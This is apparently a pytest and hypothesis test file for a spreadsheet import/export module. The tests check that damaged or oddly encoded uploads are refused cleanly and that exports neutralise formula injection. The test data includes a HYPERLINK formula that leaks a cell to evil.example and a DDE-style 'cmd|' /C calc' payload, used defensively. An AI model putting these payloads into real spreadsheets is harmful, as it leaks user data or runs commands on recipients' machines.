"""The one spreadsheet reader every import shares, and the one writer every export shares: any
upload is rows or a 422, never a crash; no export carries a formula into Excel."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from gongchuang.core import spreadsheets
from gongchuang.core.errors import InvalidInput
from gongchuang.core.spreadsheets import SheetRow, read_rows
from tests.support.spreadsheets import xlsx

COLUMNS = {"name": ("name", "姓名"), "phone": ("phone", "手机号")}
ENCODINGS = ["utf-8", "utf-8-sig", "gb18030", "utf-16", "latin-1"]
LINE_ENDINGS = ["\n", "\r\n", "\r"]
FILENAMES = ["a.csv", "a.CSV", "a.xlsx", "a.xls", "a.txt", "a", "a.json", "表.csv"]
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


def reads_or_refuses(data: bytes, filename: str) -> list[SheetRow] | None:
    """The reader's whole contract: rows, or InvalidInput (a 422). Anything else escaping
    from here would be a 500 on every import page."""
    try:
        rows = read_rows(data, filename, COLUMNS, required={"name"})
    except InvalidInput:
        return None
    assert rows and all(isinstance(r, SheetRow) for r in rows)
    return rows


cells = st.text(
    st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=12
) | st.sampled_from(['"', '""', "a,b", '"x\ny"', "=1+1", "'=1", "\x00", "\t", ";"])


@st.composite
def text_files(draw: st.DrawFn) -> tuple[bytes, str]:
    header = draw(st.sampled_from(["name,phone", "姓名,手机号", "name\tphone", "", "phone"]))
    rows = draw(st.lists(st.lists(cells, max_size=4), max_size=6))
    ending = draw(st.sampled_from(LINE_ENDINGS))
    text = ending.join([header, *(",".join(row) for row in rows)])
    encoding = draw(st.sampled_from(ENCODINGS))
    return text.encode(encoding, errors="replace"), draw(st.sampled_from(FILENAMES))


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.binary(max_size=400), filename=st.sampled_from(FILENAMES))
def test_random_bytes_are_rows_or_a_clear_refusal(data: bytes, filename: str) -> None:
    reads_or_refuses(data, filename)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(upload=text_files())
def test_any_text_in_any_encoding_and_line_ending_is_rows_or_a_clear_refusal(
    upload: tuple[bytes, str],
) -> None:
    reads_or_refuses(*upload)


GOOD_WORKBOOK = xlsx([["姓名", "手机号"], ["张三", "13800000000"], ["李四", 13800000001]])


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    cut=st.integers(0, len(GOOD_WORKBOOK)),
    flips=st.lists(st.tuples(st.integers(0, len(GOOD_WORKBOOK) - 1), st.integers(1, 255))),
)
def test_a_damaged_workbook_is_rows_or_a_clear_refusal(
    cut: int, flips: list[tuple[int, int]]
) -> None:
    data = bytearray(GOOD_WORKBOOK[:cut] if cut % 3 == 0 else GOOD_WORKBOOK)
    for at, mask in flips:
        if at < len(data):
            data[at] ^= mask
    reads_or_refuses(bytes(data), "a.xlsx")


def test_a_workbook_whose_sheet_is_damaged_inside_is_refused_not_a_crash() -> None:
    # A read-only workbook opens fine and fails only when its sheet is read.
    source = zipfile.ZipFile(io.BytesIO(GOOD_WORKBOOK))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as damaged:
        for item in source.infolist():
            body = source.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                body = body[: len(body) // 2]
            damaged.writestr(item, body)
    with pytest.raises(InvalidInput):
        read_rows(out.getvalue(), "a.xlsx", COLUMNS, required={"name"})


@pytest.mark.parametrize("ending", LINE_ENDINGS)
@pytest.mark.parametrize("encoding", ["utf-8-sig", "gb18030", "utf-16"])
def test_csv_reads_the_same_whatever_the_line_endings_and_encoding(
    ending: str, encoding: str
) -> None:
    # CR alone is how classic Mac Excel saves CSV; UTF-16 with tabs is Excel's "Unicode text".
    separator = "\t" if encoding == "utf-16" else ","
    text = ending.join(
        [separator.join(r) for r in (["姓名", "手机号"], ["张三", "13800000000"], ["李四", ""])]
    )
    rows = read_rows(text.encode(encoding), "名单.csv", COLUMNS, required={"name"})
    assert [(r.line, r.values) for r in rows] == [
        (2, {"name": "张三", "phone": "13800000000"}),
        (3, {"name": "李四", "phone": ""}),
    ]


def test_a_quoted_cell_may_hold_a_line_break_of_any_kind() -> None:
    data = b'name,phone\r"first\rsecond",1\r"a\r\nb",2\r'
    rows = read_rows(data, "a.csv", COLUMNS, required={"name"})
    assert [(r.line, r.values["name"]) for r in rows] == [(2, "first\rsecond"), (3, "a\r\nb")]


def test_an_old_excel_file_is_refused_with_what_to_do() -> None:
    ole2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    with pytest.raises(InvalidInput, match=r"\.xls"):
        read_rows(ole2, "名单.xls", COLUMNS, required={"name"})


def test_a_cell_too_long_for_csv_names_its_line() -> None:
    data = b"name,phone\nok,1\n" + b"x" * 200_000 + b",2\n"
    with pytest.raises(InvalidInput) as refused:
        read_rows(data, "a.csv", COLUMNS, required={"name"})
    assert refused.value.params == {"line": 3}


# --- exports --------------------------------------------------------------------------------


def test_csv_export_neutralises_formulas_in_text_but_not_numbers() -> None:
    text = spreadsheets.csv_download(
        ["地址", "n"],
        [[HYPERLINK, -3], ["+SUM(1)", 2.5], ["@cmd", "-12.5"], ["-2+3+cmd|' /C calc'!A0", ""]],
    )
    assert text.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(text[1:]))) == [
        ["地址", "n"],
        ["'" + HYPERLINK, "-3"],
        ["'+SUM(1)", "2.5"],
        ["'@cmd", "-12.5"],
        ["'-2+3+cmd|' /C calc'!A0", ""],
    ]


@pytest.mark.parametrize("start", list(spreadsheets.FORMULA_START))
def test_every_formula_start_is_neutralised(start: str) -> None:
    assert spreadsheets.safe_cell(start + "1+cmd") == "'" + start + "1+cmd"
    assert spreadsheets.safe_cell("地址" + start) == "地址" + start


def test_xlsx_export_writes_formula_like_text_as_text() -> None:
    data = spreadsheets.workbook_bytes(
        ["地址", "n"], [[HYPERLINK, -3], ["@cmd", "-3"], ["控制\x01字符", 1]], "AED"
    )
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no cell holds a formula
    book = load_workbook(io.BytesIO(data)).active
    link, number = book["A2"], book["B2"]
    assert (link.value, link.data_type, link.quotePrefix) == (HYPERLINK, "s", True)
    assert (number.value, number.data_type) == (-3, "n")
    assert (book["A3"].quotePrefix, book["B3"].value, book["B3"].quotePrefix) == (True, "-3", False)
    assert book["A4"].value == "控制字符"  # a control character would have refused the export


def test_an_exported_sheet_reads_back_as_it_went_out() -> None:
    values = [HYPERLINK, "-1层东侧", "+8613800000000", "@前台"]
    csv_back = read_rows(
        spreadsheets.csv_download(["name"], [[v] for v in values]).encode(),
        "a.csv",
        COLUMNS,
        required={"name"},
    )
    xlsx_back = read_rows(
        spreadsheets.workbook_bytes(["name"], [[v] for v in values], "s"),
        "a.xlsx",
        COLUMNS,
        required={"name"},
    )
    assert [r.values["name"] for r in csv_back] == values
    assert [r.values["name"] for r in xlsx_back] == values


def test_name_rows_gives_each_error_the_value_its_row_is_known_by() -> None:
    rows = [SheetRow(2, {"phone": "13800000000"}), SheetRow(3, {"phone": ""})]
    errors: list[dict[str, object]] = [
        {"line": 2, "message": "x"},
        {"row": 2, "message": "y"},
        {"line": 3, "message": "z"},
    ]
    spreadsheets.name_rows(errors, rows, "phone")
    assert [e.get("id") for e in errors] == ["13800000000", "13800000000", None]
